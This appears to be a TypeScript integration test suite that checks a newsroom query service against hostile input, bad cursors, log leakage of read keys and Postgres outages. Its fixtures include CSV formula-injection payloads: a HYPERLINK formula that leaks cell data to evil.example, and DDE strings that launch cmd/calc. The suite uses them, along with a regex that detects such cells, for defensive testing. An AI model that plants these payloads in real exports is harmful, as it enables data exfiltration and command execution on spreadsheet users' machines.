import { createServer, Server, Socket } from 'node:net';
import { parse } from 'csv-parse/sync';
import { WebSocket } from 'ws';
import { freePort, pollUntil, RunningApp, startApp, testApiKey } from '@newsroom/testing';
import { BatchAnswer, post, startStack, TestStack } from './stack.harness';

/**
 * Issue 11 against the query service as a process: CSV cells a spreadsheet would run as formulas, hand-made
 * cursors, Postgres down, internal text on /health/ready, and read keys in its logs.
 */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
// A cell a spreadsheet runs: first char (or first non-space char) one of = + - @, or a leading tab / CR.
const RUNS = /^[\t\r]|^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const running = (c: string) => RUNS.test(c) && !PLAIN_NUMBER.test(c);
/** The cells a spreadsheet splitting on `;` (French Excel), `,` or tab makes of one of ours, quoted or not. */
const splitCells = (c: string) => c.split(/[;,\t]/);
const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

/** RFC 4180 with csv-parse: quoted fields, doubled quotes, CRLF records. */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' });

/** A TCP forwarder to the shared Postgres that the test can take down (a port where nothing listens) and bring back. */
class PgDoor {
  private server: Server | null = null;
  private readonly sockets = new Set<Socket>();
  private frozen = false;
  constructor(readonly port: number) {}
  open(): Promise<void> {
    this.frozen = false;
    this.server = createServer((client) => {
      if (this.frozen) {
        // Accepts and never answers: a hung server, or a network that drops everything.
        this.sockets.add(client);
        client.on('error', () => undefined);
        return;
      }
      const upstream = new Socket();
      this.sockets.add(client).add(upstream);
      const drop = () => (client.destroy(), upstream.destroy(), this.sockets.delete(client), this.sockets.delete(upstream));
      client.on('error', drop).on('close', drop);
      upstream.on('error', drop).on('close', drop);
      upstream.connect(5432, '127.0.0.1', () => client.pipe(upstream).pipe(client));
    });
    return new Promise((resolve, reject) => this.server!.once('error', reject).listen(this.port, '127.0.0.1', () => resolve()));
  }
  /** Stops forwarding both ways on every open connection and leaves new ones unanswered; nothing is closed. */
  freeze(): void {
    this.frozen = true;
    for (const s of this.sockets) {
      s.unpipe();
      s.pause();
    }
  }
  close(): Promise<void> {
    this.sockets.forEach((s) => s.destroy());
    this.sockets.clear();
    const server = this.server;
    this.server = null;
    return new Promise((resolve) => (server ? server.close(() => resolve()) : resolve()));
  }
}

describe('query service: hostile input and closed doors (issue 11, apps as processes)', () => {
  let stack: TestStack;
  let q: string;
  let sourceId: string;
  const get = async (url: string, headers: Record<string, string> = {}) => {
    const res = await fetch(url, { headers });
    return { status: res.status, type: res.headers.get('content-type') ?? '', text: await res.text(), headers: res.headers };
  };
  const source = {
    outlet: FORMULA,
    url: 'https://example.org/a',
    title: "@SUM(1+1)*cmd|' /C calc'!A0",
    language: 'en',
    publishedAt: '2024-10-02',
    quote: "-2+3+cmd|' /C calc'!A0",
  };

  beforeAll(async () => {
    stack = await startStack('hostile-query');
    q = stack.apps.query.url;
    const events = [
      {
        type: 'executive.departed',
        subject: 'person:formula-one',
        occurredAt: '2024-09-25',
        // A destination that starts a formula after a ";": French Excel splits the line there, inside our quotes too.
        data: {
          organization: 'org:openai',
          role: "+cmd|' /C calc'!A0",
          roleCategory: 'c-suite',
          reason: 'resigned',
          destination: 'Rival;=1+1',
        },
      },
      {
        type: 'revenue.reported',
        subject: 'org:openai',
        occurredAt: '2024-10',
        data: { money: { amount: '3700000000', currency: 'USD' }, period: '2024', basis: 'projected' },
      },
      {
        type: 'lawsuit.filed',
        subject: 'case:formula-v-sheet',
        occurredAt: '2024-08-05',
        // A title cannot start with a tab (one-line text refuses controls): a full-width = is the look-alike to defuse.
        // Claims are joined with "; " in a cell: the second starts a formula after the separator.
        data: { title: '\uFF1D1+1', plaintiffs: ['person:elon-musk'], defendants: ['org:openai'], court: '  =2+2', claims: ['x', '=3+3'] },
      },
    ].map((e) => ({ ...e, sources: [source], modality: 'reported' }));
    const res = await post<BatchAnswer>(`${stack.apps.ingest.url}/v1/events`, { events }, stack.key);
    expect(res.body.results.map((r) => r.status)).toEqual(['created', 'created', 'created']);
    await pollUntil(
      async () =>
        (await get(`${q}/v1/reports/lawsuits`)).text.includes('case:formula-v-sheet') &&
        (await get(`${q}/v1/reports/financials?organization=org:openai`)).text.includes('3700000000'),
      { timeoutMs: 60000, what: 'the events in the read models' },
    );
    sourceId = (JSON.parse((await get(`${q}/v1/sources`)).text) as { items: Array<{ id: string }> }).items[0].id;
  });
  afterAll(() => stack?.stop());

  const csvEndpoints = () => [
    '/v1/reports/timeline',
    '/v1/reports/departures?organization=org:openai',
    '/v1/reports/financials?organization=org:openai',
    '/v1/reports/lawsuits',
    '/v1/reports/leadership?organization=org:openai&show=tenures',
    '/v1/entities/org:openai',
    '/v1/sources',
    `/v1/sources/${sourceId}`,
  ];

  it('given headlines, titles, quotes and outlets starting with =, +, -, @, tab, or with one after a ;, then no CSV endpoint writes a cell a spreadsheet would run', async () => {
    for (const path of csvEndpoints()) {
      const res = await get(`${q}${path}${path.includes('?') ? '&' : '?'}format=csv`);
      expect({ path, status: res.status, type: res.type }).toEqual({ path, status: 200, type: expect.stringMatching(/^text\/csv/) });
      const cells = parseCsv(res.text).slice(1).flat();
      expect({ path, running: cells.filter(running) }).toEqual({ path, running: [] });
      // Nor one a spreadsheet splitting on ; , or tab would make (a quote counts only where its cell starts).
      expect({ path, running: cells.filter((c) => splitCells(c).slice(1).some(running)) }).toEqual({ path, running: [] });
      // The text itself is kept, behind a single quote.
      expect({ path, kept: cells.some((c) => c.startsWith(`'${FORMULA}`) || c.startsWith("'-2+3")) }).toEqual({ path, kept: true });
    }
  });

  it("given the third tester's inputs (round 51), then each is a 4xx problem naming its field, and a key in the URL is not echoed", async () => {
    // A page size Number() would read but the reports refuse: hex, binary, exponent, sign, padding.
    for (const limit of ['0x2', '0b11', '1e1', '+5', '%205', '5.0']) {
      const res = await get(`${q}/v1/feed?limit=${limit}`);
      expect({ limit, status: res.status, paths: JSON.parse(res.text).errors?.map((e: { path: string }) => e.path) }).toEqual({
        limit,
        status: 400,
        paths: ['limit'],
      });
    }
    expect((await get(`${q}/v1/feed?limit=2`)).status).toBe(200);
    // A path segment that is not percent-encoded UTF-8: the API's own 400, with the field.
    const undecodable = await get(`${q}/v1/entities/%ff`);
    expect([undecodable.status, JSON.parse(undecodable.text).code, JSON.parse(undecodable.text).errors?.[0]?.path]).toEqual([
      400,
      'REQUEST.INVALID',
      'url',
    ]);
    // A read key sent in the URL is not written back into the problem's instance.
    const echoed = await get(`${q}/v1/feed?limit=0&key=${stack.readKey}`);
    expect(echoed.status).toBe(400);
    expect(echoed.text).not.toContain(stack.readKey);
    expect(JSON.parse(echoed.text).instance).toContain('key=[Redacted]');
    // A subscribe message with a field the feed does not take: closed 1008 naming it, never the whole feed.
    const ws = new WebSocket(`${q.replace('http', 'ws')}/v1/feed/ws`);
    const frames: Array<{ type: string; problem?: { errors?: Array<{ path: string }> } }> = [];
    ws.on('message', (m) => frames.push(JSON.parse((m as Buffer).toString('utf8'))));
    await new Promise((resolve) => ws.once('open', resolve));
    ws.send(JSON.stringify({ after: '0', organisation: 'org:openai' }));
    const code = await new Promise<number>((resolve) => ws.once('close', resolve));
    expect(code).toBe(1008);
    expect(frames.some((f) => f.type === 'item')).toBe(false);
    expect(JSON.stringify(frames)).toContain('organisation');
    // A filter given empty (a client's list that happened to be empty) asks for nothing: a 400, never the whole feed.
    for (const [path, param] of [
      ['/v1/feed', 'subjects='],
      ['/v1/feed', 'types=,'],
      ['/v1/feed/stream', 'organization='],
      ['/v1/feed.atom', 'subjects='],
    ]) {
      const res = await get(`${q}${path}?${param}`);
      expect({ path, param, status: res.status, paths: JSON.parse(res.text).errors?.map((e: { path: string }) => e.path) }).toEqual({
        path,
        param,
        status: 400,
        paths: [param.split('=')[0]],
      });
    }
    const empty = new WebSocket(`${q.replace('http', 'ws')}/v1/feed/ws`);
    const emptyFrames: Array<{ type: string }> = [];
    empty.on('message', (m) => emptyFrames.push(JSON.parse((m as Buffer).toString('utf8'))));
    await new Promise((resolve) => empty.once('open', resolve));
    empty.send(JSON.stringify({ after: '0', subjects: [] }));
    expect(await new Promise<number>((resolve) => empty.once('close', resolve))).toBe(1008);
    expect(emptyFrames.some((f) => f.type === 'item' || f.type === 'subscribed')).toBe(false);
    expect(JSON.stringify(emptyFrames)).toContain('subjects');
  });

  it('given a hand-made cursor on any paged endpoint, then 400 problem+json naming cursor (never a 500)', async () => {
    const bad: [string, unknown[]][] = [
      ['/v1/reports/timeline', ['x', 1]],
      ['/v1/reports/timeline', ['2024-01-01T00:00:00.000Z', 'x']],
      ['/v1/reports/departures?organization=org:openai', ['x', 1]],
      ['/v1/reports/financials?organization=org:openai', ['x', 1, '']],
      ['/v1/reports/lawsuits', ['a\u0000b']],
      ['/v1/reports/leadership?organization=org:openai', [1, 2, 3, 4, 5, 6]],
      ['/v1/entities/org:openai', ['x', 1]],
      ['/v1/sources', ['x', 'y']],
      [`/v1/sources/${sourceId}`, ['x']],
    ];
    for (const [path, cursor] of bad) {
      const res = await get(`${q}${path}${path.includes('?') ? '&' : '?'}cursor=${b64(cursor)}`);
      expect({ path, cursor, status: res.status, type: res.type }).toEqual({
        path,
        cursor,
        status: 400,
        type: expect.stringMatching(/^application\/problem\+json/),
      });
      expect(JSON.parse(res.text).errors.map((e: { path: string }) => e.path)).toContain('cursor');
    }
    // Free text parameters go to SQL too: text Postgres refuses is the client's error.
    const nul = await get(`${q}/v1/sources?outlet=Le%00Monde`);
    expect({ status: nul.status, paths: JSON.parse(nul.text).errors?.map((e: { path: string }) => e.path) }).toEqual({
      status: 400,
      paths: ['outlet'],
    });
    // A Latin-1 byte (the query parser reads it as U+FFFD) or a name longer than any outlet's: a 400, not an empty search.
    for (const outlet of ['Le%e9Monde', '%ff', 'x'.repeat(201)]) {
      const res = await get(`${q}/v1/sources?outlet=${outlet}`);
      expect({
        outlet,
        status: res.status,
        type: res.type,
        paths: JSON.parse(res.text).errors?.map((e: { path: string }) => e.path),
      }).toEqual({
        outlet,
        status: 400,
        type: expect.stringMatching(/^application\/problem\+json/),
        paths: ['outlet'],
      });
    }
    expect((await get(`${q}/v1/sources?outlet=Le%C3%A9Monde`)).status).toBe(200);
    // A cursor the API gave back still works.
    const first = await get(`${q}/v1/reports/timeline?limit=1`);
    const next = JSON.parse(first.text).next;
    expect(next).toBeTruthy();
    expect((await get(`${q}/v1/reports/timeline?limit=1&cursor=${next}`)).status).toBe(200);
  });

  describe('a query app whose Postgres goes away, logging at info', () => {
    let door: PgDoor;
    let query: RunningApp;
    const out: string[] = [];
    const badKey = testApiKey();

    beforeAll(async () => {
      door = new PgDoor(await freePort());
      await door.open();
      const url = new URL(stack.db.url);
      url.host = `127.0.0.1:${door.port}`;
      query = await startApp('query', {
        ...stack.env,
        DATABASE_URL: url.toString(),
        LOG_LEVEL: 'info',
        NEWSROOM_REQUIRE_READ_KEY: 'true',
        DATABASE_CONNECT_TIMEOUT_MS: '2000',
        DATABASE_STATEMENT_TIMEOUT_MS: '1500',
        DATABASE_QUERY_TIMEOUT_MS: '2000',
      });
      query.process.stdout!.on('data', (b: Buffer) => out.push(b.toString()));
      query.process.stderr!.on('data', (b: Buffer) => out.push(b.toString()));
    });
    afterAll(async () => {
      await query?.stop();
      await door?.close();
    });

    it('given a read key in ?key= on every variant of the stream URL and on the WebSocket upgrade, then the key never appears in the logs', async () => {
      const keys = [stack.readKey, badKey];
      const opened = new Map<string, number>(keys.map((k) => [k, 0]));
      for (const key of keys) {
        for (const path of [
          '/v1/feed/stream?key=',
          '/v1/feed/stream/?key=',
          '/V1/Feed/Stream?key=',
          '/v1/feed/stream?KEY=',
          '/v1/feed/stream?lang=en&Key=',
          '/v1/reports/timeline?key=',
          '/v1/feed?key=',
        ]) {
          const ac = new AbortController();
          const res = await fetch(`${query.url}${path}${key}`, { signal: ac.signal });
          if (path.toLowerCase().startsWith('/v1/feed/stream'))
            expect({ path, status: res.status }).toEqual({ path, status: key === badKey ? 401 : 200 });
          ac.abort();
          await res.body?.cancel().catch(() => undefined);
        }
        for (const path of ['/v1/feed/ws?key=', '/v1/feed/ws?KEY=', '/v1/feed/ws?after=0&Key=', '/V1/Feed/Ws?key=', '/v1/feed/ws/?key=']) {
          // A real upgrade: opened (a good key) or refused with a problem (a bad key, a parameter other than the key
          // (filters go in the subscribe message), another path), then closed.
          await new Promise<void>((resolve) => {
            const ws = new WebSocket(`${query.url.replace('http', 'ws')}${path}${key}`);
            const done = () => (ws.terminate(), resolve());
            ws.once('open', () => (opened.set(key, opened.get(key)! + 1), ws.close()))
              .once('close', done)
              .once('error', done)
              .once('unexpected-response', done);
          });
        }
        await fetch(`${query.url}/v1/reports/nowhere`, { headers: { authorization: `Bearer ${key}`, 'x-api-key': key } });
      }
      // Something was logged for these requests (the 401/404 lines), and the keys are in none of it.
      await pollUntil(() => out.join('').includes('/v1/reports/nowhere'), { timeoutMs: 10000, what: 'the request lines logged' });
      const logs = out.join('');
      // Reads need a key here: the good one opens the socket as ?key= and ?KEY= on the WebSocket path (`?after=0&Key=` is
      // refused, 400: the URL takes no filter), the bad one never.
      expect([...opened.values()]).toEqual([2, 0]);
      for (const key of keys) expect(logs.includes(key)).toBe(false);
    });

    it('given Postgres unreachable, then reports answer 503 problem+json with Retry-After and /health/ready names its checks without internal text', async () => {
      expect((await get(`${query.url}/v1/reports/timeline`, { authorization: `Bearer ${stack.readKey}` })).status).toBe(200);
      await door.close();
      try {
        const res = await pollUntil(
          async () => {
            const r = await get(`${query.url}/v1/reports/timeline`, { authorization: `Bearer ${stack.readKey}` });
            return r.status !== 200 ? r : null;
          },
          { timeoutMs: 20000, what: 'the report failing' },
        );
        expect(res.status).toBe(503);
        expect(res.type).toMatch(/^application\/problem\+json/);
        expect(Number(res.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
        const ready = await pollUntil(
          async () => {
            const r = await get(`${query.url}/health/ready`);
            return r.status !== 200 ? r : null;
          },
          { timeoutMs: 20000, what: 'readiness failing' },
        );
        expect(ready.status).toBe(503);
        expect(ready.text).not.toMatch(/ECONNREFUSED|127\.0\.0\.1|connect|timeout|Error|at /i);
        expect(JSON.parse(ready.text)).toMatchObject({ code: 'SERVICE.NOT_READY', checks: { postgres: 'down' } });
        expect(Number(ready.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      } finally {
        await door.open();
      }
      await pollUntil(
        async () => (await get(`${query.url}/v1/reports/timeline`, { authorization: `Bearer ${stack.readKey}` })).status === 200,
        { timeoutMs: 30000, what: 'the report back once Postgres is reachable' },
      );
    });

    it('given Postgres hanging (connections open, nothing answers), then reports answer 503 with Retry-After within the configured timeouts, and come back', async () => {
      const timeline = () => get(`${query.url}/v1/reports/timeline`, { authorization: `Bearer ${stack.readKey}` });
      expect((await timeline()).status).toBe(200);
      door.freeze();
      try {
        // Bounded by the query timeout (2 s here) on a pooled connection, or the connect timeout (2 s) on a new one.
        const answers = await Promise.all([timeline(), timeline(), timeline()]);
        for (const res of answers) {
          expect(res.status).toBe(503);
          expect(JSON.parse(res.text).code).toMatch(/^READ_DB\.(TIMEOUT|UNAVAILABLE)$/);
          expect(Number(res.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
        }
      } finally {
        await door.close();
        await door.open();
      }
      await pollUntil(async () => (await timeline()).status === 200, { timeoutMs: 30000, what: 'the report back once Postgres answers' });
    });
  });
});
